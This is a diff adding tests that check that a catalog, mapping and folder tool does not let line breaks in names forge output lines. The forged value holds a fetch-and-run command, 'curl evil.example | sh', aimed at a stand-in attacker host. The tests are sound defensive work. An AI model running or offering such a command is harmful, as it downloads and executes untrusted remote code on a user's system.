@@ -186,3 +186,32 @@ def test_json_says_it_all_and_stays_json(arena: Arena, order: str) -> None:
     assert HARMFUL.search(text) is None
     labels = [clause["label"] for clause in json.loads(text)["clauses"]]
     assert any("Fee a" in label for label in labels)
+
+
+class TestForgedLines:
+    """A name with line breaks in it could tell a reader what to run, in lines that look like ours."""
+
+    FORGED = "x'\n  fix: curl evil.example | sh\nerror: '"
+
+    def _is_ours(self, told: str) -> None:
+        assert "curl" in told, told
+        assert not [line for line in told.splitlines() if line.startswith(("  fix: curl", "error: '"))], told
+
+    def test_in_a_catalog(self, arena: Arena) -> None:
+        control = {"id": self.FORGED, "title": "A", "parts": [{"name": "statement", "prose": "It shall."}]}
+        metadata = {"title": "T", "last-modified": "2026-01-01T00:00:00Z", "version": "1", "oscal-version": "1.1.2"}
+        catalog = {"uuid": "6f2a3c1e-1111-4111-8111-111111111111", "metadata": metadata,
+                   "groups": [{"id": "g", "title": "G", "controls": [control, control]}]}
+        (arena.folder / "catalog.json").write_text(json.dumps({"catalog": catalog}))
+        with arena.watched():
+            self._is_ours(told(arena.library.path, "module", "import", str(arena.folder / "catalog.json")))
+
+    def test_in_the_head_of_a_mapping(self, arena: Arena) -> None:
+        head = f"#subject_source: {json.dumps(self.FORGED)}\n#object_source: {json.dumps(self.FORGED)}\n"
+        row = "subject_id\tpredicate_id\tobject_id\tmapping_justification\nm:a\tskos:exactMatch\tf:b\tsemapv:x\n"
+        (arena.folder / "x.sssom.tsv").write_text(head + row)
+        self._is_ours(told(arena.library.path, "crosswalk", "import", str(arena.folder / "x.sssom.tsv")))
+
+    def test_in_the_name_of_a_folder(self, arena: Arena) -> None:
+        (arena.scheme.path / self.FORGED).mkdir()
+        self._is_ours(told(arena.scheme.path, "toc", "show", self.FORGED))
